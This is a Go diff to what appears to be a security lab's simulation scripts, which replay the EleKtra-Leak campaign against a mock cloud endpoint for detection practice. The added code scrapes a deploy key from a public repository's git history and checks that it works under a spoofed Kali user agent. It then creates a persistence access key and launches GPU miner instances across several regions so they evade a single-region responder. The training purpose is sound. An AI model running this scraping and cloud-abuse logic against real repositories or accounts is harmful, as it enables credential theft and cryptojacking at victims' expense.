@@ -15,12 +15,22 @@ import (
 )
 
 // Keys in the Repo's traffic: the CI system using its deploy key as it
-// should, and an intruder who scrapes the public repository's history for
-// keys (EleKtra-Leak found them within minutes) and uses the one it finds.
+// should, a scraper that finds the key in the public repository's history
+// and checks it works (EleKtra-Leak found keys within minutes), and the
+// intruder who later uses it from another address, starting miners in
+// several regions as that campaign did.
 func init() {
 	labkit.RegisterScript("leak-ci", leakCI)
+	labkit.RegisterScript("leak-scout", leakScout)
 	labkit.RegisterScript("leak-intruder", leakIntruder)
 }
+
+// minerRegions are where the intruder starts miners, and how many: the
+// home region first, then two a responder looking only there misses.
+var minerRegions = []struct {
+	region string
+	count  int
+}{{"us-east-1", 4}, {"ap-northeast-1", 2}, {"eu-north-1", 2}}
 
 // leakCI uploads a build every minute with the CI key from its own address.
 func leakCI(ctx context.Context, env labkit.Env) error {
@@ -35,19 +45,75 @@ func leakCI(ctx context.Context, env labkit.Env) error {
 	return nil
 }
 
-func leakIntruder(ctx context.Context, env labkit.Env) error {
-	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), 15*time.Minute, func() error {
-		return leakOnce(env)
+func leakScout(ctx context.Context, env labkit.Env) error {
+	done := false // a scraper checks a key once and moves on
+	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 2*time.Second), 15*time.Minute, func() error {
+		if done {
+			return nil
+		}
+		c, err := scrapedClient(env, "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 exe/x86_64.kali.2023 prompt/off command/sts.get-caller-identity")
+		if err != nil {
+			return err
+		}
+		if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
+			return err
+		}
+		c.UserAgent = "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 exe/x86_64.kali.2023 prompt/off command/s3.ls"
+		_, err = c.S3("GET", "/", nil)
+		done = err == nil
+		return err
 	})
 	return nil
 }
 
-func leakOnce(env labkit.Env) error {
+// leakIntruder starts the miners once, region by region: a run that fails
+// part-way (the cloud still starting) resumes at the region it stopped
+// in, so the trail's count of instances is the story's.
+func leakIntruder(ctx context.Context, env labkit.Env) error {
+	next := 0
+	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), 15*time.Minute, func() error {
+		if next == len(minerRegions) {
+			return nil
+		}
+		c, err := scrapedClient(env, "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.0 lang/python#3.11.2")
+		if err != nil {
+			return err
+		}
+		if next == 0 {
+			if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
+				return err
+			}
+			_, _ = c.Query("ec2", "DescribeRegions", nil)
+			_, _ = c.S3("GET", "/", nil)
+			_, _ = c.S3("GET", "/acme-build-artifacts?list-type=2", nil)
+			_, _ = c.Query("iam", "CreateAccessKey", url.Values{"UserName": {"ci-deployer"}})
+		}
+		for ; next < len(minerRegions); next++ {
+			m := minerRegions[next]
+			c.Region = m.region
+			n := fmt.Sprint(m.count)
+			res, err := c.Query("ec2", "RunInstances", url.Values{"ImageId": {"ami-0b4c7e2f9d1a3e5c7"}, "InstanceType": {"p3.16xlarge"},
+				"MinCount": {n}, "MaxCount": {n}})
+			if err != nil {
+				return err
+			}
+			if !res.OK() {
+				return fmt.Errorf("RunInstances in %s: %s", m.region, res.String())
+			}
+		}
+		return nil
+	})
+	return nil
+}
+
+// scrapedClient is a client holding the key found in the public
+// repository's history, as a scraper reads it over git's dumb HTTP.
+func scrapedClient(env labkit.Env, agent string) (*client.Client, error) {
 	hc := &http.Client{Timeout: 10 * time.Second}
 	repo := env("GIT") + env("REPO")
 	refs, err := fetchText(hc, repo+"/info/refs")
 	if err != nil {
-		return err
+		return nil, err
 	}
 	head, _, _ := strings.Cut(refs, "\t")
 	creds, err := client.KeysInHistory(head, func(path string) ([]byte, error) {
@@ -55,18 +121,9 @@ func leakOnce(env labkit.Env) error {
 		return []byte(b), err
 	})
 	if err != nil {
-		return err
+		return nil, err
 	}
-	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.0 lang/python#3.11.2"}
-	if _, err := c.Query("sts", "GetCallerIdentity", nil); err != nil {
-		return err
-	}
-	_, _ = c.S3("GET", "/", nil)
-	_, _ = c.S3("GET", "/acme-build-artifacts?list-type=2", nil)
-	_, _ = c.Query("iam", "CreateAccessKey", url.Values{"UserName": {"ci-deployer"}})
-	_, err = c.Query("ec2", "RunInstances", url.Values{"ImageId": {"ami-0b4c7e2f9d1a3e5c7"}, "InstanceType": {"p3.16xlarge"},
-		"MinCount": {"4"}, "MaxCount": {"4"}})
-	return err
+	return &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: agent}, nil
 }
 
 func fetchText(hc *http.Client, u string) (string, error) {
